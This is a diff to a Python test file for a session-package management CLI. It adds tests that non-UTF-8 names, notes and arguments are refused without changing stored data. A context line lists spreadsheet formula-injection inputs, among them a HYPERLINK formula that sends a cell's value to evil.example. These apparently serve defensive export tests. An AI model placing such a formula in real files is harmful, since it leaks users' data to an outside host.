@@ -99,6 +99,42 @@ def test_every_one_line_field_refuses_control_characters(practice, data_dir: Pat
     assert tree_hash(data_dir) == before
 
 
+# A byte that is not UTF-8 (0xE9, "é" in Latin-1) reaches Python as the lone surrogate U+DCE9.
+@pytest.mark.parametrize("args, message", [
+    (("client", "add", "zed", "--name", "Caf\udce9"), "client name is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
+    (("sell", "ana", "five", "--note", "x\udce9"), "--note is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
+    (("sell", "ana", "five", "--ref", "r\udce9"), "--ref is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
+    (("--actor", "caf\udce9", "client", "add", "zed", "--name", "Zed"), "--actor must be a name of one line, at most 100 characters"),
+    (("client", "edit", "ana", "--notes", "a\nb\udcff"), "notes is not UTF-8 text (it holds the byte \\xff); type it again in UTF-8"),
+    (("adjust", "ana.p1", "--sessions", "+1", "--reason", "\udce9"), "--reason must be one line of 1 to 500 printable characters"),
+])
+def test_text_that_is_not_utf8_is_refused_where_it_is_typed(practice, data_dir: Path, args: tuple[str, ...], message: str) -> None:
+    from tree import tree_hash
+
+    assert practice("package", "create", "five", "--name", "5 massages", "--service", "massage=5", "--price", "400").exit_code == 0
+    assert practice("sell", "ana", "five", "--paid", "100").exit_code == 0
+    before = tree_hash(data_dir)
+    result = practice(*args)
+    assert (result.exit_code, result.stdout, result.stderr) == (2, "", f"error: {message}\n")
+    assert tree_hash(data_dir) == before
+
+
+def test_bytes_that_are_not_utf8_on_a_real_command_line_are_refused(practice, data_dir: Path) -> None:
+    import subprocess
+
+    from tree import tree_hash
+
+    before = tree_hash(data_dir)
+    env = {**project_env({"SESSIONPACK_NOW": "2026-11-20T09:00"}), "SESSIONPACK_ACTOR": "marta"}
+    argv = [sys.executable.encode(), b"-m", b"sessionpack", b"--data-dir", bytes(data_dir), b"client", b"add", b"zed", b"--name", b"Caf\xe9"]
+    done = subprocess.run(argv, capture_output=True, env=env)
+    assert (done.returncode, done.stdout, done.stderr) == (2, b"", b"error: client name is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8\n")
+    env_bytes = {key.encode(): value.encode() for key, value in env.items()} | {b"SESSIONPACK_ACTOR": b"caf\xe9"}
+    done = subprocess.run(argv[:-5] + [b"client", b"add", b"zed", b"--name", b"Zed"], capture_output=True, env=env_bytes)
+    assert (done.returncode, done.stderr) == (2, b"error: --actor must be a name of one line, at most 100 characters\n")
+    assert tree_hash(data_dir) == before
+
+
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
 
 
